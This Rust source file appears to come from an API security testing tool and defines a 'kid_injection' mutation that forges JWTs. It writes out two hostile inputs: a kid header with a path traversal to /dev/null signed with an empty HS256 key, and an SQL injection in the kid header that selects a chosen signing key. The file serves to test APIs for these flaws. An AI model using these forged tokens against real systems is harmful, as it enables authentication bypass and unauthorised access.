//! `kid_injection`: the `kid` header points where a careless key lookup finds a key the
//! attacker knows: a path traversal to `/dev/null` (an empty key) and an SQL injection
//! that returns a chosen key; each signed with HS256 and that key. An API that builds a
//! file path or a query from `kid` accepts it. CWE-22, CWE-89, CWE-347; OWASP API2:2023.

use serde_json::Value;

use super::{Input, Mutation, Plan, Variant, jwt};

pub struct KidInjection;

impl Mutation for KidInjection {
    fn name(&self) -> &'static str {
        "kid_injection"
    }

    fn plan(&self, input: &Input<'_>) -> Plan {
        let jwt = match jwt(input) {
            Ok(j) => j,
            Err(skip) => return skip,
        };
        let cases = [
            (
                "../../../../../../../../dev/null",
                "",
                "kid: path traversal to /dev/null, empty HS256 key",
            ),
            (
                "x' UNION SELECT 'authspec-kid-key' -- ",
                "authspec-kid-key",
                "kid: SQL injection selecting a chosen HS256 key",
            ),
        ];
        let mut variants = Vec::new();
        for (kid, key, label) in cases {
            let mut t = jwt.clone();
            t.header.insert("kid".into(), Value::String(kid.into()));
            if let Ok(token) = t.signed(
                &jsonwebtoken::EncodingKey::from_secret(key.as_bytes()),
                jsonwebtoken::Algorithm::HS256,
            ) {
                variants.push(Variant {
                    label: label.into(),
                    token,
                });
            }
        }
        Plan::Send(variants)
    }
}
